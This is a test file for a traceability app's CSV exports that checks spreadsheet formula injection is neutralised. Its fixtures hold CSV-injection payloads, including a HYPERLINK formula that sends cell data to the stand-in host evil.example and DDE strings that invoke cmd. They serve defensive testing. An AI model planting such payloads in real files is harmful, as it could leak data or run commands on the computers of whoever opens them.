import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RECALL_LIST, type ResultOf } from '../../web/src/operations.js';
import { recallListCsv } from '../../web/src/recall-csv.js';
import { KEYS, type TestApi, startApi, uniquePrefix } from '../helpers/api.js';
import { lotgraphOk } from '../helpers/cli.js';

/**
 * Every CSV lotgraph writes (the FSMA 204 sheet from its route, its query and the CLI; the CLI's
 * trace and recall list; the Recall explorer's recall list), from names and codes a hostile user
 * stored through the API. A recall coordinator opens these in a spreadsheet: a cell starting with
 * = + - @ (or their full-width forms) must be text there, never a formula (OWASP, CSV injection).
 */
let api: TestApi;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'lotgraph-csv-'));
const p = uniquePrefix('csvx');

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Details")';
const CALC = "-2+3+cmd|' /C calc'!A0";
const H = {
  rawName: HYPERLINK,
  finName: 'Crackers 200 g;=1+1', // a spreadsheet that splits at ";" would start a cell with "=1+1"
  supplierName: CALC,
  supplierLot: '@SUM(1+1)',
  receipt: '\uFF1D1+1', // full-width "=": a formula to Excel in Japanese locales
  customerName: "@cmd|' /C notepad'!A0",
  contact: '+1 555 0100', // a phone number: a spreadsheet reads it as the formula 1 + 555 0100
  reference: '+BOL-7',
  // Lot, work-order, shipment and customer codes may start with these characters too.
  rawLot: `=${p}RAW-1`,
  workOrder: `+${p}WO-1`,
  shipment: `-${p}SH-1`,
  customer: `@${p}CUST`,
  finLot: `${p}FIN-1`,
};
/** What a cell must read once neutralised: the text behind a single quote. */
const text = (s: string) => `'${s}`;
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** Cells of a CSV a spreadsheet would take for a formula. */
const formulas = (csv: string) => (parse(csv) as string[][]).flat().filter((cell) => FORMULA_START.test(cell));

async function must(query: string, variables: Record<string, unknown>) {
  const r = await api.gql(query, variables, 'ADMIN');
  if (r.errors) throw new Error(JSON.stringify(r.errors));
}

beforeAll(async () => {
  api = await startApi();
  const material = 'mutation M($i: MaterialInput!) { upsertMaterial(input: $i) { sku } }';
  await must(material, { i: { sku: `${p}RAW`, name: H.rawName, kind: 'RAW', uom: 'kg' } });
  await must(material, { i: { sku: `${p}FIN`, name: H.finName, kind: 'FINISHED', uom: 'case' } });
  await must('mutation S($i: PartyInput!) { upsertSupplier(input: $i) { code } }', { i: { code: `${p}SUP`, name: H.supplierName } });
  await must('mutation C($i: PartyInput!) { upsertCustomer(input: $i) { code } }', { i: { code: H.customer, name: H.customerName, contact: H.contact } });
  await must('mutation R($i: ReceiveLotInput!) { receiveLot(input: $i) { code } }', {
    i: {
      eventId: `${p}ev1`, lotCode: H.rawLot, materialSku: `${p}RAW`, quantity: 100, uom: 'kg', supplierCode: `${p}SUP`,
      supplierLotCode: H.supplierLot, receiptNumber: H.receipt, receivedAt: '2026-05-01T08:00:00Z',
    },
  });
  await must('mutation P($i: ProductionInput!) { recordProduction(input: $i) { number } }', {
    i: {
      eventId: `${p}ev2`, workOrderNumber: H.workOrder, completedAt: '2026-05-02T08:00:00Z',
      inputs: [{ lotCode: H.rawLot, quantity: 40, uom: 'kg' }], outputs: [{ lotCode: H.finLot, materialSku: `${p}FIN`, quantity: 10, uom: 'case' }],
    },
  });
  await must('mutation H($i: ShipmentInput!) { shipLots(input: $i) { number } }', {
    i: {
      eventId: `${p}ev3`, shipmentNumber: H.shipment, customerCode: H.customer, shippedAt: '2026-05-03T08:00:00Z', referenceDocument: H.reference,
      lines: [{ lotCode: H.rawLot, quantity: 5, uom: 'kg' }, { lotCode: H.finLot, quantity: 4, uom: 'case' }],
    },
  });
});
afterAll(async () => {
  await api?.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('every CSV lotgraph writes', () => {
  it('the FSMA 204 sheet (route, query and CLI alike): hostile text is text, behind a quote, quantities stay numbers', async () => {
    const res = await fetch(`${api.url.replace('/graphql', '/exports')}/fsma204.csv?lotCodes=${encodeURIComponent(H.rawLot)}&includeTrace=true`, {
      headers: { authorization: `Bearer ${KEYS.RECALL_COORDINATOR}` },
    });
    expect(res.status).toBe(200);
    const sheet = await res.text();
    expect(formulas(sheet)).toEqual([]);
    // Neutralised cells are quoted, their own quotes doubled (RFC 4180).
    expect(sheet).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Details"")"');
    const rows = parse(sheet, { columns: true }) as Record<string, string>[];
    // Receipt; the work order's one input row; the shipment's two lines, by lot code as stored ("=" before "c").
    expect(rows.map((r) => [r['Event Type'], r['Traceability Lot Code'], r['Quantity'], r['Unit of Measure']])).toEqual([
      ['Receiving', text(H.rawLot), '100', 'kg'],
      ['Transformation', H.finLot, '10', 'case'],
      ['Shipping', text(H.rawLot), '5', 'kg'],
      ['Shipping', H.finLot, '4', 'case'],
    ]);
    expect(rows[0]).toMatchObject({
      'Product Description': text(H.rawName), 'Immediate Previous Source Location': text(H.supplierName),
      'Traceability Lot Code Source': text(H.supplierName), 'Supplier Lot Code': text(H.supplierLot), 'Reference Document Number': text(H.receipt),
    });
    expect(rows[1]).toMatchObject({
      'Product Description': H.finName, 'Input Traceability Lot Code': text(H.rawLot), 'Input Product Description': text(H.rawName),
      'Input Quantity': '40', 'Reference Document Number': text(H.workOrder),
    });
    // Customer as recorded: "name; contact", which now starts with the hostile name.
    expect(rows[3]).toMatchObject({ 'Immediate Subsequent Recipient Location': text(`${H.customerName}; ${H.contact}`), 'Reference Document Number': text(H.reference) });
    // A cell holding ";" is quoted: a spreadsheet that separates cells by ";" keeps it whole.
    expect(sheet).toContain(`"${H.finName}"`);

    const query = await api.gql<{ fsma204Csv: string }>(
      'query F($l: [ID!]) { fsma204Csv(lotCodes: $l, includeTrace: true) }', { l: [H.rawLot] }, 'RECALL_COORDINATOR');
    expect(query.data?.fsma204Csv).toBe(sheet);
    expect(await lotgraphOk(['export', 'fsma204', '--lot', H.rawLot, '--trace'], tmp)).toBe(sheet);
  });

  it("the CLI's trace as CSV", async () => {
    const csv = await lotgraphOk(['trace', H.rawLot, '--format', 'csv'], tmp);
    expect(formulas(csv)).toEqual([]);
    // Exposure: FIN-1 is all RAW-1 (1).
    expect(parse(csv)).toEqual([
      ['Depth', 'Lot', 'Material', 'Exposure', 'Quantity', 'On hand', 'Unit', 'Status'],
      ['1', H.finLot, H.finName, '1', '10', '6', 'case', 'AVAILABLE'],
    ]);
    const backward = await lotgraphOk(['trace', H.finLot, '--backward', '--format', 'csv'], tmp);
    expect(parse(backward)[1]).toEqual(['1', text(H.rawLot), text(H.rawName), '100', '55', 'kg', 'AVAILABLE']);
  });

  it('the recall list: the CLI writes the same file as the Recall explorer, byte for byte, with hostile text neutralised', async () => {
    const file = path.join(tmp, 'recall.csv');
    await lotgraphOk(['recall', H.rawLot, '--csv', file], tmp);
    const cli = fs.readFileSync(file, 'utf8');
    const r = await api.gql<ResultOf<typeof RECALL_LIST>>(RECALL_LIST, { lotCodes: [H.rawLot] }, 'VIEWER');
    const web = recallListCsv(r.data!.recallImpact);
    expect(cli).toBe(web);
    expect(formulas(cli)).toEqual([]);
    const [header, ...rows] = parse(cli) as string[][];
    expect(header).toEqual([
      'customer_code', 'customer_name', 'customer_gln', 'customer_contact', 'shipment_number', 'shipped_at', 'reference_document',
      'lot_code', 'material_sku', 'material_name', 'quantity_shipped', 'uom', 'exposure', 'exposed_quantity',
    ]);
    // One customer, one shipment; its lines by lot code as stored: RAW-1 ("=...") before FIN-1 ("c...").
    const customer = [text(H.customer), text(H.customerName), '', text(H.contact), text(H.shipment), '2026-05-03T08:00:00Z', text(H.reference)];
    expect(rows).toEqual([
      [...customer, text(H.rawLot), `${p}RAW`, text(H.rawName), '5', 'kg', '1', '5'],
      [...customer, H.finLot, `${p}FIN`, H.finName, '4', 'case', '1', '4'],
    ]);
  });
});
